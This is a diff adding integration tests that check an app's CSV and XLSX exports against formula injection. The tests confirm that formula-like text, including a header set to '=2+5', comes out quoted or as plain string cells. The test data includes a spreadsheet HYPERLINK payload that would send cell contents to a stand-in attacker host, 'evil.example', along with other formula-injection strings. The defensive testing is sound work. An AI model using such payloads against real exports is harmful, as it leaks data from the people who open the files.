@@ -5,6 +5,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import Database from 'better-sqlite3';
 import ExcelJS from 'exceljs';
+import type { AuditEntry, Page } from '@hamgam/shared';
 import { RunHistoryService } from '../../../src/history/run-history.service';
 import { getBytes, signIn, startTestApp, waitFor, type HttpClient, type TestApp } from '../helpers/test-app';
 
@@ -47,6 +48,8 @@ function download(port: number, path: string, cookie: string, onData: (request: 
     request.on('error', () => resolve({ status, bytes, isComplete: false }));
   });
 }
+
+const csvLines = (bytes: Buffer) => bytes.subarray(3).toString('utf8').trim().split('\n');
 
 // Replays the security review's attacks ("Hardening": findings 1, 5 and the small ones of 7) against the running app.
 describe('exports and input under attack', () => {
@@ -155,6 +158,46 @@ describe('exports and input under attack', () => {
     expect(events).toEqual(['health answered', 'export ended']);
     expect(rowsReadAtHealth).toBeLessThan(rowsRead);
     expect(rowsRead).toBe(MANY_RUNS + FORMULAS.length);
+  });
+
+  it('should write formula-like text as quoted text and numbers as numbers when runs are exported as CSV', async () => {
+    const lines = csvLines((await getBytes(auditor(), '/api/runs/export.csv?triggeredBy=mallory')).body);
+    const body = lines.slice(1).join('\n');
+    expect(lines).toHaveLength(1 + FORMULAS.length);
+    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")"`);
+    for (const formula of ['+1+2', '-2+3', '@SUM(A1:A2)', '=1+1']) expect(body).toContain(`,'${formula},`);
+    expect(body).toContain(`,'\t=1+2,`);
+    expect(body).toContain(`"'\r=1+2"`);
+    expect(body).not.toMatch(/,[=+@]/);
+    for (const line of lines.slice(1)) expect(line).toContain(',-5,');
+    expect(body).not.toContain("'-5");
+  });
+
+  it('should quote an X-Forwarded-For written like a formula when the audit trail is exported as CSV', async () => {
+    await t.anonymous().post('/api/auth/login').set('X-Forwarded-For', '=2+5').send({ username: 'nobody', password: 'wrong-password' }).expect(401);
+    const [entry] = ((await auditor().get('/api/audit?action=login.failed').expect(200)).body as Page<AuditEntry>).items;
+    expect(entry.ip).toBe('=2+5');
+    const text = (await getBytes(auditor(), '/api/audit/export.csv?action=login.failed')).body.toString('utf8');
+    expect(text).toContain(`,'=2+5,`);
+    expect(text).not.toContain(',=2+5');
+  });
+
+  it('should write formula-like text as string cells, not formulas, when runs are exported as XLSX', async () => {
+    const response = await getBytes(auditor(), '/api/runs/export.xlsx?triggeredBy=mallory');
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(response.body as unknown as Parameters<typeof workbook.xlsx.load>[0]);
+    const sheet = workbook.getWorksheet('runs')!;
+    const headers = (sheet.getRow(1).values as unknown[]).map(String);
+    const reasons = [];
+    for (let row = 2; row <= sheet.rowCount; row++) {
+      const reason = sheet.getRow(row).getCell(headers.indexOf('reason'));
+      const duration = sheet.getRow(row).getCell(headers.indexOf('duration_ms'));
+      expect([reason.type, reason.formula]).toEqual([ExcelJS.ValueType.String, undefined]);
+      expect(duration.value).toBe(-5);
+      reasons.push(reason.value);
+    }
+    // XML reads a carriage return back as a line feed.
+    expect(reasons.sort()).toEqual(FORMULAS.map((reason) => reason.replace('\r', '\n')).sort());
   });
 
   it.each([
